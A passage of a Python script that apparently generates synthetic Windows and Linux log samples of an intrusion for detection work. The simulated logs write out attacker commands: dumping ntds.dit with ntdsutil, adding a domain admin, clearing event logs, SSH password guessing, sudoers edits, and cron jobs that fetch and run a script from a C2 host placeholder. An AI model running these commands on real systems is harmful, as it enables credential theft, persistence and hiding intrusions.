    s.file("03:19:23.460", 6230, "C:\\Windows\\Temp\\lsass_1120.dmp")

    # --- NTDS.dit through ntdsutil IFM
    s.process(
        "03:21:07.655",
        6318,
        SYS32 + "ntdsutil.exe",
        'ntdsutil.exe "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\ifm" q q',
        6004,
        SYSTEM,
        original="ntdsutil.exe",
        description="NT5DS",
        integrity="System",
    )
    s.file("03:21:31.200", 6318, "C:\\Windows\\Temp\\ifm\\Active Directory\\ntds.dit")

    # --- a new domain admin account
    s.process(
        "03:23:02.311",
        6402,
        SYS32 + "net.exe",
        "net.exe user svc_backup2 Winter2026! /add /domain",
        6004,
        SYSTEM,
        original="net.exe",
        description="Net Command",
        integrity="System",
    )
    new_sid = f"{DOMAIN_SID}-1187"
    subject = {
        "SubjectUserSid": "S-1-5-18",
        "SubjectUserName": "SRV-DC-01$",
        "SubjectDomainName": "CORP",
        "SubjectLogonId": "0x3e7",
    }
    sec.add(
        at("03:23:02.598"),
        4720,
        {
            "TargetUserName": "svc_backup2",
            "TargetDomainName": "CORP",
            "TargetSid": new_sid,
            **subject,
            "PrivilegeList": "-",
            "SamAccountName": "svc_backup2",
            "DisplayName": "%%1793",
            "UserPrincipalName": "-",
            "HomeDirectory": "%%1793",
            "HomePath": "%%1793",
            "ScriptPath": "%%1793",
            "ProfilePath": "%%1793",
            "UserWorkstations": "%%1793",
            "PasswordLastSet": "%%1794",
            "AccountExpires": "%%1794",
            "PrimaryGroupId": "513",
            "AllowedToDelegateTo": "-",
            "OldUacValue": "0x0",
            "NewUacValue": "0x15",
            "UserAccountControl": "\n\t\t%%2080\n\t\t%%2082\n\t\t%%2084",
            "UserParameters": "%%1793",
            "SidHistory": "-",
            "LogonHours": "%%1797",
        },
        pid=704,
        task=13824,
        user_sid=None,
    )
    s.process(
        "03:23:20.740",
        6420,
        SYS32 + "net.exe",
        'net.exe group "Domain Admins" svc_backup2 /add /domain',
        6004,
        SYSTEM,
        original="net.exe",
        description="Net Command",
        integrity="System",
    )
    sec.add(
        at("03:23:21.002"),
        4728,
        {
            "MemberName": "CN=svc_backup2,CN=Users,DC=corp,DC=example",
            "MemberSid": new_sid,
            "TargetUserName": "Domain Admins",
            "TargetDomainName": "CORP",
            "TargetSid": f"{DOMAIN_SID}-512",
            **subject,
            "PrivilegeList": "-",
        },
        pid=704,
        task=13826,
        user_sid=None,
    )

    # --- covering tracks
    s.process(
        "03:25:44.019",
        6502,
        SYS32 + "wevtutil.exe",
        'wevtutil.exe cl "Windows PowerShell"',
        6004,
        SYSTEM,
        original="wevtutil.exe",
        description="Eventing Command Line Utility",
        integrity="System",
    )
    sysl.add(
        at("03:25:44.090"),
        104,
        user_data={
            "LogFileCleared": {
                "#attributes": {
                    "xmlns": "http://manifests.microsoft.com/win/2004/08/windows/eventlog"
                },
                "SubjectUserName": "SRV-DC-01$",
                "SubjectDomainName": "CORP",
                "Channel": "Windows PowerShell",
                "BackupPath": "",
            }
        },
        provider=EVENTLOG,
        pid=1412,
        task=104,
    )
    s.process(
        "03:25:51.377",
        6518,
        SYS32 + "wevtutil.exe",
        "wevtutil.exe cl Security",
        6004,
        SYSTEM,
        original="wevtutil.exe",
        description="Eventing Command Line Utility",
        integrity="System",
    )
    sec.add(
        at("03:25:51.402"),
        1102,
        user_data={
            "LogFileCleared": {
                "#attributes": {
                    "xmlns": "http://manifests.microsoft.com/win/2004/08/windows/eventlog"
                },
                "SubjectUserSid": "S-1-5-18",
                "SubjectUserName": "SRV-DC-01$",
                "SubjectDomainName": "CORP",
                "SubjectLogonId": "0x3e7",
            }
        },
        provider=EVENTLOG,
        pid=1412,
        task=104,
        user_sid=None,
    )
    logon("03:30:00.912", "SRV-FILE-02$", 3, "192.0.2.12")
    return s.log, sec, sysl


# ---------------------------------------------------------------------------------------- Linux

LINUX_HOST = "web-01"


def syslog_line(clock: str | datetime, program: str, pid: int | None, message: str) -> str:
    """RFC 3164 as rsyslog writes /var/log/auth.log on Debian: no year, no zone (UTC here)."""
    when = at(clock) if isinstance(clock, str) else clock
    stamp = f"{when:%b} {when.day:>2} {when:%H:%M:%S}"
    tag = f"{program}[{pid}]" if pid is not None else program
    return f"{stamp} {LINUX_HOST} {tag}: {message}"


def auth_and_syslog() -> tuple[list[str], list[str]]:
    auth: list[str] = []
    syslog: list[str] = []
    cron_session = "pam_unix(cron:session): session {} for user root"
    for minute, pid in ((10, 30211), (15, 30388), (20, 30502), (25, 30640)):
        clock = f"02:{minute:02d}:01"
        auth.append(
            syslog_line(clock, "CRON", pid, cron_session.format("opened") + "(uid=0) by (uid=0)")
        )
        auth.append(
            syslog_line(clock.replace(":01", ":02"), "CRON", pid, cron_session.format("closed"))
        )
        syslog.append(
            syslog_line(
                clock,
                "CRON",
                pid,
                "(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)",
            )
        )
    syslog.append(
        syslog_line(
            "02:20:01",
            "CRON",
            30503,
            "(backup) CMD (/usr/local/bin/backup.sh && curl -fsS -m 10 -o /dev/null "
            "https://hc-ping.example.com/3f9a1c52)",
        )
    )
    # An administrator logs in with a key from the jump host and restarts nginx; before that,
    # one mistyped password (one failure is not guessing).
    auth += [
        syslog_line(
            "02:12:31",
            "sshd",
            30299,
            f"Failed password for mlopez from {JUMP_IP} port 50118 ssh2",
        ),
        syslog_line(
            "02:12:44",
            "sshd",
            30301,
            f"Accepted publickey for mlopez from {JUMP_IP} "
            "port 50122 ssh2: ED25519 SHA256:q3mF0d8cB5eZ1rW9yVt7kLx2pN4sA6uH0gJ8iO1yT3c",
        ),
        syslog_line(
            "02:12:44",
            "sshd",
            30301,
            "pam_unix(sshd:session): session opened for user mlopez(uid=1000) by (uid=0)",
        ),
        syslog_line("02:12:44", "systemd-logind", 612, "New session 311 of user mlopez."),
        syslog_line(
            "02:13:20",
            "sudo",
            30355,
            "  mlopez : TTY=pts/0 ; PWD=/home/mlopez ; "
            "USER=root ; COMMAND=/usr/bin/systemctl reload nginx",
        ),
        syslog_line(
            "02:13:20",
            "sudo",
            30355,
            "pam_unix(sudo:session): session opened for user root(uid=0) by mlopez(uid=1000)",
        ),
        syslog_line(
            "02:13:21", "sudo", 30355, "pam_unix(sudo:session): session closed for user root"
        ),
        syslog_line(
            "02:14:02", "sshd", 30301, "pam_unix(sshd:session): session closed for user mlopez"
        ),
        syslog_line(
            "02:14:02",
            "systemd-logind",
            612,
            "Session 311 logged out. Waiting for processes to exit.",
        ),
    ]
    syslog.append(
        syslog_line(
            "02:13:21",
            "systemd",
            1,
            "Reloading nginx.service - A high performance web server and a reverse proxy server...",
        )
    )
    syslog.append(
        syslog_line(
            "02:13:21",
            "systemd",
            1,
            "Reloaded nginx.service - A high performance web server and a reverse proxy server.",
        )
    )

    # Password guessing from 203.0.113.45.
    guesses = [
        ("admin", True),
        ("admin", True),
        ("test", True),
        ("oracle", True),
        ("ubuntu", True),
        ("postgres", True),
        ("git", True),
        ("ftpuser", True),
        ("support", True),
        ("user", True),
        ("deploy", False),
        ("deploy", False),
        ("jenkins", True),
        ("ansible", True),
        ("deploy", False),
        ("backup", True),
        ("deploy", False),
        ("www", True),
        ("deploy", False),
        ("pi", True),
        ("guest", True),
        ("deploy", False),
    ]
    when = at("02:31:05")
    pid = 31020
    for n, (user, invalid) in enumerate(guesses):
        port = 40112 + n * 37
        answered = when + timedelta(seconds=2)
        rhost = f"logname= uid=0 euid=0 tty=ssh ruser= rhost={ATTACKER_IP}"
        if invalid:
            auth.append(
                syslog_line(
                    when, "sshd", pid, f"Invalid user {user} from {ATTACKER_IP} port {port}"
                )
            )
            auth.append(
                syslog_line(when, "sshd", pid, "pam_unix(sshd:auth): check pass; user unknown")
            )
            auth.append(
                syslog_line(
                    when, "sshd", pid, f"pam_unix(sshd:auth): authentication failure; {rhost}"
                )
            )
            fail = f"Failed password for invalid user {user} from {ATTACKER_IP} port {port} ssh2"
            closed = f"Connection closed by invalid user {user} {ATTACKER_IP} port {port} [preauth]"
        else:
            auth.append(
                syslog_line(
                    when,
                    "sshd",
                    pid,
                    f"pam_unix(sshd:auth): authentication failure; {rhost}  user=deploy",
                )
            )
            fail = f"Failed password for deploy from {ATTACKER_IP} port {port} ssh2"
            closed = (
                f"Connection closed by authenticating user deploy {ATTACKER_IP} "
                f"port {port} [preauth]"
            )
        auth.append(syslog_line(answered, "sshd", pid, fail))
        auth.append(syslog_line(answered, "sshd", pid, closed))
        when += timedelta(seconds=6 + (n * 5) % 4)
        pid += 3
    # The guess that worked.
    auth += [
        syslog_line(
            "02:34:12",
            "sshd",
            31101,
            f"Accepted password for deploy from {ATTACKER_IP} port 52944 ssh2",
        ),
        syslog_line(
            "02:34:12",
            "sshd",
            31101,
            "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)",
        ),
        syslog_line("02:34:12", "systemd-logind", 612, "New session 312 of user deploy."),
    ]

    def sudo(clock: str, pid: int, command: str) -> None:
        auth.append(
            syslog_line(
                clock,
                "sudo",
                pid,
                f"  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND={command}",
            )
        )
        auth.append(
            syslog_line(
                clock,
                "sudo",
                pid,
                "pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1001)",
            )
        )
        auth.append(
            syslog_line(clock, "sudo", pid, "pam_unix(sudo:session): session closed for user root")
        )

    sudo("02:35:30", 31190, "/usr/bin/id")
    sudo("02:36:02", 31214, "/usr/sbin/useradd -m -s /bin/bash sysupdate")
    auth += [
        syslog_line(
            "02:36:02", "groupadd", 31215, "group added to /etc/group: name=sysupdate, GID=1002"
        ),
        syslog_line("02:36:02", "groupadd", 31215, "new group: name=sysupdate, GID=1002"),
        syslog_line(
            "02:36:02",
            "useradd",
            31215,
            "new user: name=sysupdate, UID=1002, GID=1002, "
            "home=/home/sysupdate, shell=/bin/bash, from=/dev/pts/1",
        ),
    ]
    sudo("02:36:40", 31240, "/usr/sbin/usermod -aG sudo sysupdate")
    auth += [
        syslog_line("02:36:40", "usermod", 31241, "add 'sysupdate' to group 'sudo'"),
        syslog_line("02:36:40", "usermod", 31241, "add 'sysupdate' to shadow group 'sudo'"),
    ]
    sudo("02:37:15", 31262, "/usr/bin/tee -a /etc/sudoers")
    sudo("02:38:04", 31290, f"/usr/bin/curl -fsSL -o /tmp/.x http://{C2_HOST}/l64")
    sudo("02:38:09", 31301, "/usr/bin/chmod +x /tmp/.x")
    auth.append(syslog_line("02:38:55", "crontab", 31330, "(deploy) REPLACE (deploy)"))
    syslog.append(syslog_line("02:38:55", "crontab", 31330, "(deploy) REPLACE (deploy)"))
    syslog.append(syslog_line("02:39:01", "cron", 604, "(deploy) RELOAD (crontabs/deploy)"))
    for clock, pid in (("02:40:01", 31402), ("02:45:01", 31655)):
        auth.append(
            syslog_line(
                clock,
                "CRON",
                pid,
                "pam_unix(cron:session): session opened for user deploy(uid=1001) by (uid=0)",
            )
        )
        syslog.append(
            syslog_line(clock, "CRON", pid, f"(deploy) CMD (curl -fsSL http://{C2_HOST}/s.sh | sh)")
        )
        auth.append(
            syslog_line(
                clock.replace(":01", ":03"),
                "CRON",
                pid,
                "pam_unix(cron:session): session closed for user deploy",
            )
        )
    auth.append(
        syslog_line(
            "02:47:30", "sshd", 31101, "pam_unix(sshd:session): session closed for user deploy"
        )
    )
    auth.append(
        syslog_line(
            "02:47:30",
            "systemd-logind",
            612,
            "Session 312 logged out. Waiting for processes to exit.",
        )
    )
    return sorted_by_clock(auth), sorted_by_clock(syslog)


def sorted_by_clock(lines: list[str]) -> list[str]:
    # Lines are "Nov 20 HH:MM:SS host ..."; a stable sort keeps the order within one second.
    return sorted(lines, key=lambda line: line[7:15])


def audit_log() -> list[str]:
    """Raw auditd records as /var/log/audit/audit.log holds them (one line per record)."""
    lines: list[str] = []
    serial = 48810

    def stamp(clock: str) -> str:
        when = at(clock)
        return f"{int(when.timestamp())}.{stable(clock + str(serial), 1000):03d}"

    def event(clock: str, records: list[str]) -> None:
        nonlocal serial
        serial += 1
        for record in records:
            kind, _, rest = record.partition(" ")
            # node= is there because auditd.conf has name_format = hostname (the usual choice
            # when audit logs are shipped off the machine).
            lines.append(
                f"node={LINUX_HOST} type={kind} msg=audit({stamp(clock)}:{serial}): {rest}"
            )

    def execve(
        clock: str,
        argv: list[str],
        *,
        pid: int,
        ppid: int,
        auid: int,
        uid: int,
        ses: int,
        exe: str,
        key: str,
        cwd: str = "/home/deploy",
        tty: str = "pts1",
    ) -> None:
        args = " ".join(f'a{i}="{a}"' for i, a in enumerate(argv))
        comm = exe.rsplit("/", 1)[-1][:15]
        event(
            clock,
            [
                "SYSCALL arch=c000003e syscall=59 success=yes exit=0 a0=55d0c1e3a2b0 "
                f"a1=55d0c1e3a5f0 a2=55d0c1e39c10 a3=8 items=2 ppid={ppid} pid={pid} auid={auid} "
                f"uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} "
                f"fsgid={uid} tty={tty} ses={ses} "
                f'comm="{comm}" exe="{exe}" subj=unconfined key="{key}"',
                f"EXECVE argc={len(argv)} {args}",
                f'CWD cwd="{cwd}"',
                f'PATH item=0 name="{exe}" inode={stable(exe, 900000) + 100000} dev=fd:00 '
                "mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 "
                "cap_fver=0 cap_frootid=0",
                'PATH item=1 name="/lib64/ld-linux-x86-64.so.2" inode=1327 dev=fd:00 mode=0100755 '
                "ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 "
                "cap_frootid=0",
                "PROCTITLE proctitle=" + "00".join(a.encode().hex().upper() for a in argv),
            ],
        )

    # Benign: the administrator's login and nginx reload.
    event(
        "02:12:44",
        [
            "USER_AUTH pid=30301 uid=0 auid=4294967295 ses=4294967295 subj=unconfined "
            f'msg=\'op=PAM:authentication grantors=pam_permit acct="mlopez" exe="/usr/sbin/sshd" '
            f"hostname={JUMP_IP} addr={JUMP_IP} terminal=ssh res=success'",
        ],
    )
    event(
        "02:12:44",
        [
            "USER_LOGIN pid=30301 uid=0 auid=1000 ses=311 subj=unconfined "
            f'msg=\'op=login id=1000 exe="/usr/sbin/sshd" hostname=? addr={JUMP_IP} '
            "terminal=/dev/pts/0 res=success'",
        ],
    )
    execve(
        "02:13:20",
        ["systemctl", "reload", "nginx"],
        pid=30356,
        ppid=30355,
        auid=1000,
        uid=0,
        ses=311,
        exe="/usr/bin/systemctl",
        key="privileged",
        cwd="/home/mlopez",
        tty="pts0",
    )
    execve(
        "02:13:58",
        ["chmod", "755", "/usr/local/bin/backup.sh"],
        pid=30371,
        ppid=30370,
        auid=1000,
        uid=0,
        ses=311,
        exe="/usr/bin/chmod",
        key="perm_mod",
        cwd="/home/mlopez",
        tty="pts0",
    )
    # The attacker's login as deploy.
    event(
        "02:34:12",
        [
            "USER_LOGIN pid=31101 uid=0 auid=1001 ses=312 subj=unconfined "
            f'msg=\'op=login id=1001 exe="/usr/sbin/sshd" hostname=? addr={ATTACKER_IP} '
            "terminal=/dev/pts/1 res=success'",
        ],
    )
    execve(
        "02:36:02",
        ["useradd", "-m", "-s", "/bin/bash", "sysupdate"],
        pid=31215,
        ppid=31214,
        auid=1001,
        uid=0,
        ses=312,
        exe="/usr/sbin/useradd",
        key="identity",
    )
    event(
        "02:36:02",
        [
            "ADD_GROUP pid=31215 uid=0 auid=1001 ses=312 subj=unconfined "
            'msg=\'op=add-group id=1002 exe="/usr/sbin/useradd" hostname=web-01 addr=? '
            "terminal=pts/1 res=success'",
        ],
    )
    event(
        "02:36:02",
        [
            "ADD_USER pid=31215 uid=0 auid=1001 ses=312 subj=unconfined "
            'msg=\'op=add-user id=1002 exe="/usr/sbin/useradd" hostname=web-01 addr=? '
            "terminal=pts/1 res=success'",
        ],
    )
    execve(
        "02:36:40",
        ["usermod", "-aG", "sudo", "sysupdate"],
        pid=31241,
        ppid=31240,
        auid=1001,
        uid=0,
        ses=312,
        exe="/usr/sbin/usermod",
        key="identity",
    )
    event(
        "02:36:40",
        [
            "USER_MGMT pid=31241 uid=0 auid=1001 ses=312 subj=unconfined "
            'msg=\'op=add-user-to-group grp="sudo" acct="sysupdate" exe="/usr/sbin/usermod" '
            "hostname=web-01 addr=? terminal=pts/1 res=success'",
        ],
    )
    event(
        "02:37:15",
        [
            "SYSCALL arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd6a1c2e5f "
            "a2=441 a3=1b6 items=2 ppid=31262 pid=31263 auid=1001 uid=0 gid=0 euid=0 suid=0 "
            'fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 ses=312 comm="tee" exe="/usr/bin/tee" '
            'subj=unconfined key="sudoers_change"',
            'CWD cwd="/home/deploy"',
            'PATH item=0 name="/etc/" inode=131073 dev=fd:00 mode=040755 ouid=0 ogid=0 rdev=00:00 '
            "nametype=PARENT cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
            'PATH item=1 name="/etc/sudoers" inode=133201 dev=fd:00 mode=0100440 ouid=0 ogid=0 '
            "rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
            "PROCTITLE proctitle=746565002D61002F6574632F7375646F657273",
        ],
    )
    execve(
        "02:38:04",
        ["curl", "-fsSL", "-o", "/tmp/.x", f"http://{C2_HOST}/l64"],
        pid=31291,
        ppid=31290,
        auid=1001,
        uid=0,
        ses=312,
        exe="/usr/bin/curl",
        key="network_tools",
    )
    execve(
        "02:38:09",
        ["chmod", "+x", "/tmp/.x"],
        pid=31302,
        ppid=31301,
        auid=1001,
        uid=0,
        ses=312,
        exe="/usr/bin/chmod",
        key="perm_mod",
    )
    execve(
        "02:38:55",
        ["crontab", "-"],
        pid=31330,
        ppid=31120,
        auid=1001,
        uid=1001,
        ses=312,
        exe="/usr/bin/crontab",
        key="cron",
    )
    execve(
        "02:40:01",
        ["sh", "-c", f"curl -fsSL http://{C2_HOST}/s.sh | sh"],
        pid=31403,
        ppid=31402,
        auid=1001,
        uid=1001,
        ses=313,
        exe="/usr/bin/dash",
        key="exec",
        tty="(none)",
    )
    return lines


def write_samples(root: Path = ROOT) -> dict[str, int]:
    """Write every sample file under ``root``; return the line count of each (relative path)."""
    counts: dict[str, int] = {}
    ws_sysmon, ws_ps = workstation()
    dc_sysmon, dc_security, dc_system = domain_controller()
    win = root / "windows"
    for name, channel in (
        ("WS-FIN-07/sysmon.jsonl", ws_sysmon),
        ("WS-FIN-07/powershell-operational.jsonl", ws_ps),
        ("SRV-DC-01/sysmon.jsonl", dc_sysmon),
        ("SRV-DC-01/security.jsonl", dc_security),
        ("SRV-DC-01/system.jsonl", dc_system),
    ):
        counts[f"windows/{name}"] = channel.write(win / name)
    auth, syslog = auth_and_syslog()
    linux = root / "linux" / LINUX_HOST
    linux.mkdir(parents=True, exist_ok=True)
    for name, lines in (("auth.log", auth), ("syslog", syslog), ("audit/audit.log", audit_log())):
        path = linux / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        counts[f"linux/{LINUX_HOST}/{name}"] = len(lines)
    return counts


def main() -> None:
    counts = write_samples()
    for name, count in counts.items():
        print(f"{count:5d}  samples/{name}")
    print(f"{sum(counts.values()):5d}  lines in all")


if __name__ == "__main__":
    main()
